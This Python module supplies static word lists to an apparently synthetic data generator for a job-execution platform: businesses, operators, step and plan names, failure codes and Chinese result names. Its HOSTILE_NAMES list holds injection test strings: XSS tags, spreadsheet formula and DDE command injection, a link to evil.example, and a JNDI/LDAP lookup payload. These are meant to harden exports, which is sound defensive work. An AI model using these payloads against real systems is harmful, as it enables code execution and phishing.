"""Static word lists the generator draws from: businesses, names, operators, failure codes.

Hostile names are deliberate: every consumer of API text (CSV, HTML, SQL) must survive them.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Business(NamedTuple):
    bk_biz_id: int
    name: str
    #: second octet of the business's 10.x.y.z addresses; unique, so IPs never collide
    octet: int
    #: hosts the business owns; a step never targets more than this
    pool_size: int
    #: share of all job instances
    weight: float


BUSINESSES: Final[tuple[Business, ...]] = (
    Business(2, "蓝鲸", 10, 6000, 0.30),
    Business(3, "王者荣耀", 20, 20000, 0.25),
    Business(5, "支付中心", 30, 8000, 0.20),
    Business(8, "测试业务", 40, 3000, 0.15),
    Business(1001, "数据平台", 50, 12000, 0.10),
)

#: people run jobs from the web UI and confirm manual steps; bots call the API
HUMANS: Final[tuple[str, ...]] = ("admin", "zhangsan", "lisi", "wangwu", "xiaoming.li")
BOTS: Final[tuple[str, ...]] = ("ops_bot", "jenkins", "devops-ci")
OPERATORS: Final[tuple[str, ...]] = HUMANS + BOTS

#: (name, step type) pools: 1 script, 2 file, 4 SQL, 3 manual confirmation
STEP_NAMES: Final[dict[int, tuple[str, ...]]] = {
    1: (
        "检查磁盘空间",
        "停止服务",
        "启动服务",
        "重启nginx",
        "清理日志",
        "健康检查",
        "采集系统信息",
        "同步时间",
        "修改内核参数",
        "检查进程存活",
        "回滚版本",
        "更新软件包",
        "校验MD5",
        "check_port_8080",
        "install agent plugin",
    ),
    2: (
        "分发配置文件",
        "拉取发布包",
        "推送证书",
        "分发安装包",
        "下发脚本工具",
        "同步静态资源",
    ),
    4: ("执行数据库变更", "备份数据库", "刷新权限表", "清理过期订单"),
    3: ("人工确认: 灰度验证", "等待业务确认", "发布前检查确认"),
}

PLAN_NAMES: Final[tuple[str, ...]] = (
    "【发布】游戏服滚动更新",
    "日常巡检",
    "数据库备份",
    "证书轮换",
    "日志清理(每日)",
    "扩容初始化",
    "紧急回滚",
    "nginx配置变更",
    "系统补丁安装",
    "全服停服维护",
    "支付通道切换",
    "agent升级",
    "容量巡检",
    "冷备恢复演练",
)

#: names that break naive CSV, HTML, spreadsheet and template handling
HOSTILE_NAMES: Final[tuple[str, ...]] = (
    "<script>alert(1)</script>",
    "Deploy & Restart \"prod\" 'east'",
    '=HYPERLINK("http://evil.example","click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3 清理",
    "</td></tr><img src=x onerror=alert(1)>",
    "a,b;c\td",
    "多行名称\n第二行",
    "{{ 7*7 }} ${jndi:ldap://x}",
    "🚀 发布 v2.3.1",
    "C:\\temp\\new\\backup",
    "超长的步骤名称-" * 24,
)

#: one per business, in a frequently run plan, so even a small data set has each kind
CORE_HOSTILE: Final[tuple[str, ...]] = (
    HOSTILE_NAMES[0],
    HOSTILE_NAMES[1],
    HOSTILE_NAMES[2],
    HOSTILE_NAMES[-1],
    HOSTILE_NAMES[9],
)

#: failure codes (host result types) by step type, with relative weights
FAILURE_CODES: Final[dict[int, tuple[tuple[int, int], ...]]] = {
    1: ((104, 60), (13, 8), (1, 6), (310, 6), (311, 4), (101, 5), (102, 4), (18, 2), (12, 2)),
    2: ((202, 35), (203, 15), (310, 10), (311, 8), (329, 10), (320, 8), (303, 8), (321, 3)),
    4: ((104, 40), (101, 30), (13, 10), (1, 10)),
}

#: host result types whose agent was down (the 2.x abnormal_agent_* fields)
ABNORMAL_AGENT_CODES: Final[frozenset[int]] = frozenset({1, 310})

#: non-zero exit codes a failing script host reports
EXIT_CODES: Final[tuple[int, ...]] = (1, 1, 1, 2, 126, 127, 255, 3)

#: script tags (job_success / job_fail text); in 3.x they split result groups
TAGS: Final[tuple[str, ...]] = ("already_latest", "skip_no_change", "disk_full", "retry_later")

#: host result names in Chinese (API reference 6.5), sent when the request asks for zh
HOST_RESULT_NAMES_ZH: Final[dict[int, str]] = {
    0: "未知错误",
    1: "Agent 异常",
    2: "无效执行对象",
    3: "上次已成功",
    5: "等待执行",
    7: "正在执行",
    9: "执行成功",
    11: "任务失败",
    12: "任务下发失败",
    13: "任务超时",
    15: "任务日志错误",
    16: "脚本日志超时",
    17: "文件日志超时",
    18: "Agent 未安装",
    101: "脚本执行失败",
    102: "脚本执行超时",
    103: "脚本执行被终止",
    104: "脚本返回码非零",
    202: "文件传输失败",
    203: "源文件不存在",
    301: "文件任务未分类错误",
    303: "执行任务超时",
    310: "Agent 异常",
    311: "用户名不存在",
    312: "用户密码不正确",
    320: "文件获取失败",
    321: "文件超出限制",
    329: "文件传输错误",
    399: "任务执行出错",
    403: "任务强制终止成功",
    404: "任务强制终止失败",
    500: "未知",
}
